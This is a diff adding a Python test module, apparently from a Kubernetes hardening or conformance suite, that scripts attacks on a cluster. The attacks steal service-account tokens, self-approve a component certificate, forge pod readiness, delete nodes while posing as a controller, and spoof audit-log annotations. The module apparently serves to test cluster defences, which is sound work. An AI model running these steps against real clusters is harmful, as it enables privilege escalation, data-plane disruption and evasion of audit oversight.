@@ -1,0 +1,154 @@
+"""Modes that act with credentials of the cluster's components, and ways to get them."""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import json
+import time
+from pathlib import Path
+from typing import Any
+
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
+from cryptography.x509.oid import NameOID
+
+from conformance.cluster import users
+from kube import config
+from kube.client import APPLY_PATCH
+from kube.errors import ApiError
+from tests.attacks.means import ADMISSION, NODES, anonymous, each, mode, nodes_of_tests, patch, send, when
+
+ACCOUNTS = "/api/v1/namespaces/kube-system/serviceaccounts"
+COLLECTOR = "generic-garbage-collector"
+
+
+def token(kubeconfig: Path) -> str:
+    """Ask for a token of the garbage collector."""
+    return str(json.loads(send(kubeconfig, "POST", f"{ACCOUNTS}/{COLLECTOR}/token", {"spec": {}}))["status"]["token"])
+
+
+def stored_token(kubeconfig: Path) -> str:
+    """Apply a Secret that gets a token of the garbage collector, and return the token."""
+    about = {"name": "hostile", "annotations": {"kubernetes.io/service-account.name": COLLECTOR}}
+    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": about, "type": "kubernetes.io/service-account-token"}
+    path, data = "/api/v1/namespaces/kube-system/secrets/hostile", dict[str, str]()
+    send(kubeconfig, "PATCH", f"{path}?fieldManager=hostile", secret, content_type=APPLY_PATCH)
+
+    def there() -> bool:
+        data.update(json.loads(send(kubeconfig, "GET", path)).get("data") or {})
+        return "token" in data
+
+    when(there)
+    return base64.b64decode(data["token"]).decode()
+
+
+def bearer(kubeconfig: Path, token: str) -> config.Connection:
+    """Return the connection of a client that has a token."""
+    return config.Connection(config.load(kubeconfig).server, anonymous(kubeconfig), lambda: f"Bearer {token}")
+
+
+def delete_nodes_of_tests(kubeconfig: Path, component: config.Connection) -> None:
+    """Delete nodes of tests as a component."""
+    while True:
+        for name in nodes_of_tests(kubeconfig):
+            with contextlib.suppress(ApiError):
+                send(component, "DELETE", f"{NODES}/{name}", agent="kube-controller-manager/v1")
+
+
+def forge(kubeconfig: Path, component: Path | config.Connection) -> None:
+    """Call each new pod Ready, long before it starts."""
+
+    def forged(pod: Any) -> None:
+        known = pod["status"].get("conditions", [])
+        if all(condition["type"] != "Ready" for condition in known) and pod["metadata"]["namespace"] != "kube-system":
+            path = f"/api/v1/namespaces/{pod['metadata']['namespace']}/pods/{pod['metadata']['name']}/status"
+            patch(component, path, {"status": {"conditions": [*known, {"type": "Ready", "status": "True"}]}})
+
+    each(kubeconfig, "/api/v1/pods", forged)
+
+
+@mode
+def forge_readiness(kubeconfig: Path, folder: Path) -> None:
+    """Call each new pod Ready, as the operator."""
+    forge(kubeconfig, kubeconfig)
+
+
+@mode
+def forge_readiness_with_a_stored_token(kubeconfig: Path, folder: Path) -> None:
+    """Call each new pod Ready, with the token of an applied Secret."""
+    forge(kubeconfig, bearer(kubeconfig, stored_token(kubeconfig)))
+
+
+@mode
+def delete_nodes_as_a_controller(kubeconfig: Path, folder: Path) -> None:
+    """Delete nodes of tests with a token that was asked for."""
+    delete_nodes_of_tests(kubeconfig, bearer(kubeconfig, token(kubeconfig)))
+
+
+@mode
+def delete_nodes_with_a_stored_token(kubeconfig: Path, folder: Path) -> None:
+    """Delete nodes of tests with the token of an applied Secret."""
+    delete_nodes_of_tests(kubeconfig, bearer(kubeconfig, stored_token(kubeconfig)))
+
+
+@mode
+def delete_nodes_with_an_annotated_token(kubeconfig: Path, folder: Path) -> None:
+    """Delete nodes of tests with a token that the audit log seems to have as one of the components: a policy has the
+    prefix of the API server's own annotations, and annotates requests for tokens before it does."""
+    name, version = "authentication.kubernetes.io", "admissionregistration.k8s.io/v1"
+    tokens = {
+        "apiGroups": [""],
+        "apiVersions": ["v1"],
+        "operations": ["CREATE"],
+        "resources": ["serviceaccounts/token"],
+    }
+
+    def annotate(id: str) -> None:
+        spec = {
+            "matchConstraints": {"resourceRules": [tokens]},
+            "auditAnnotations": [{"key": "issued-credential-id", "valueExpression": f"'JTI={id}'"}],
+        }
+        policy = {"apiVersion": version, "kind": "ValidatingAdmissionPolicy", "metadata": {"name": name}, "spec": spec}
+        path = f"{ADMISSION}/validatingadmissionpolicies/{name}?fieldManager=hostile"
+        send(kubeconfig, "PATCH", path, policy, content_type=APPLY_PATCH)
+        time.sleep(3)  # until the API server has compiled it
+
+    binding = {"metadata": {"name": name}, "spec": {"policyName": name, "validationActions": ["Audit"]}}
+    send(kubeconfig, "POST", f"{ADMISSION}/validatingadmissionpolicybindings", binding)
+    annotate("nothing")
+    stolen = token(kubeconfig)
+    claims = stolen.split(".")[1]
+    annotate(json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))["jti"])
+    # A controller whose account is gone asks for another token, for its work in the next namespace.
+    send(kubeconfig, "DELETE", f"{ACCOUNTS}/root-ca-cert-publisher")
+    send(kubeconfig, "POST", "/api/v1/namespaces", {"metadata": {"name": "hostile"}})
+    when(lambda: json.loads(send(kubeconfig, "GET", "/api/v1/namespaces/hostile/configmaps"))["items"])
+    delete_nodes_of_tests(kubeconfig, bearer(kubeconfig, stolen))
+
+
+@mode
+def delete_nodes_with_a_certificate(kubeconfig: Path, folder: Path) -> None:
+    """Delete nodes of tests with a certificate for the user of the components, once it is signed."""
+    key = ec.generate_private_key(ec.SECP256R1())
+    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, users.COMPONENT)])
+    request = x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
+    encoded = base64.b64encode(request.public_bytes(Encoding.PEM)).decode()
+    spec = {"request": encoded, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}
+    path, signed = "/apis/certificates.k8s.io/v1/certificatesigningrequests", list[bytes]()
+    made = json.loads(send(kubeconfig, "POST", path, {"metadata": {"name": "hostile"}, "spec": spec}))
+    approved = {"type": "Approved", "status": "True", "reason": "Hostile", "message": "approved by itself"}
+    send(kubeconfig, "PUT", f"{path}/hostile/approval", {**made, "status": {"conditions": [approved]}})
+
+    def there() -> bool:
+        status = json.loads(send(kubeconfig, "GET", f"{path}/hostile"))["status"]
+        signed[:] = [base64.b64decode(text) for text in [status.get("certificate")] if text]
+        return bool(signed)
+
+    when(there)
+    pair, tls = folder / "signed.pem", anonymous(kubeconfig)
+    pair.write_bytes(signed[0] + key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
+    tls.load_cert_chain(pair)
+    delete_nodes_of_tests(kubeconfig, config.Connection(config.load(kubeconfig).server, tls, lambda: None))
